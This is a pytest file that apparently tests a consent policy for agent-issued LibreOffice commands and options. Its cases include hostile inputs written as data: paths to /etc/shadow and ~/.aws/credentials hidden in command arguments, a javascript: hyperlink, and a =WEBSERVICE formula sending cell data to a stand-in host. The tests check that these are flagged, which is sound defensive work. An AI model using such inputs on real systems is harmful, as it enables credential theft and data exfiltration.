"""LibreOffice's commands and options by their arguments: an address or a path in any of them is judged as such."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from tests.tools.policy.test_policy import Judge
from ufo.schema.action_class import ActionClass

OUTSIDE, SEND, RUN = ActionClass.OUTSIDE, ActionClass.SEND, ActionClass.RUN_PROGRAM


@pytest.fixture
def judge(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Judge:
    home = tmp_path / "home"
    for folder in (".aws", "work"):
        (home / folder).mkdir(parents=True)
    (home / ".aws/credentials").write_text("SQUEAMISH")
    (home / "work/chapter.odt").write_text("x")
    monkeypatch.setenv("HOME", str(home))
    return Judge(home / "work")


_SECRET = "file://HOME/.aws/credentials"


@pytest.mark.parametrize(
    ("command", "arguments", "expected"),
    [
        ("InsertDoc", {"Name": "file:///etc/shadow"}, OUTSIDE),
        ("InsertDoc", {"Name": {"type": "string", "value": _SECRET}}, OUTSIDE),
        ("InsertDoc", {"Name": "FILE:/etc/shadow"}, OUTSIDE),
        ("InsertDoc", {"Name": "../.aws/credentials"}, OUTSIDE),
        ("InsertDoc", {"Name": "~/.aws/credentials"}, OUTSIDE),
        ("InsertSection", {"RegionName": "a", "LinkName": _SECRET}, OUTSIDE),
        ("InsertObjectFloatingFrame", {"URL": _SECRET}, OUTSIDE),
        ("CompareDocuments", {"URL": _SECRET}, OUTSIDE),
        ("MergeDocuments", {"URL": _SECRET}, OUTSIDE),
        ("InsertGraphic", {"FileName": _SECRET}, OUTSIDE),
        ("InsertSheetFromFile", {"Files": [_SECRET]}, OUTSIDE),
        ("Anything", {"whatever": ["x", _SECRET]}, OUTSIDE),
        ("InsertGraphic", {"FileName": "https://x.example/a.png?q=1"}, SEND),
        ("InsertObjectFloatingFrame", {"URL": "smb://x.example/share"}, SEND),
        ("InsertSection", {"LinkName": "ftp://x.example/a.odt"}, SEND),
        ("InsertHyperlink", {"URL": "javascript:alert(1)"}, RUN),
        ("EnterString", {"StringName": '=WEBSERVICE("http://x.example/"&A1)'}, SEND),
    ],
)
async def test_an_address_or_a_path_in_any_argument_of_a_command_is_judged_as_such(
    judge: Judge, command: str, arguments: dict[str, Any], expected: ActionClass
) -> None:
    home = str(Path.home())
    told = eval_home(arguments, home)
    verdict = await judge.of("run_command", command=command, arguments=told)
    assert verdict.needs_consent and verdict.action_class is expected, verdict


def eval_home(value: Any, home: str) -> Any:
    if isinstance(value, dict):
        return {key: eval_home(item, home) for key, item in value.items()}
    if isinstance(value, list):
        return [eval_home(item, home) for item in value]
    return value.replace("HOME", home) if isinstance(value, str) else value


@pytest.mark.parametrize(
    ("command", "arguments"),
    [
        ("SuperScript", {}),
        ("FontHeight", {"FontHeight.Height": 20}),
        ("CharFontName", {"CharFontName.FamilyName": "DejaVu Serif"}),
        ("InsertText", {"Text": "Ratio: 3/4, see https and/or ~"}),
        ("InsertText", {"Text": "note: one"}),
        ("StyleApply", {"Style": "Heading 1", "FamilyName": "ParagraphStyles"}),
        ("InsertHyperlink", {"URL": "https://x.example/", "Text": "here"}),
        ("InsertHyperlink", {"URL": "mailto:a@b.example"}),
        ("InsertDoc", {"Name": "chapter.odt"}),
        ("InsertDoc", {"Name": "HOME/work/chapter.odt"}),
        ("InsertTable", {"Columns": 2, "Rows": 3}),
        ("EnterString", {"StringName": "=SUM(A1:A2)"}),
    ],
)
async def test_a_command_that_works_on_the_document_alone_needs_no_question(
    judge: Judge, command: str, arguments: dict[str, Any]
) -> None:
    verdict = await judge.of("run_command", command=command, arguments=eval_home(arguments, str(Path.home())))
    assert not verdict.needs_consent, verdict.question


async def test_an_option_is_judged_by_its_value(judge: Judge) -> None:
    asked = await judge.of("set_option", option="org.openoffice.Office.X/y", value=f"{Path.home()}/.aws/credentials")
    assert asked.needs_consent
    assert not (await judge.of("set_option", option="autosave minutes", value=7)).needs_consent
    assert not (await judge.of("set_option", option="last name", value="Sol")).needs_consent
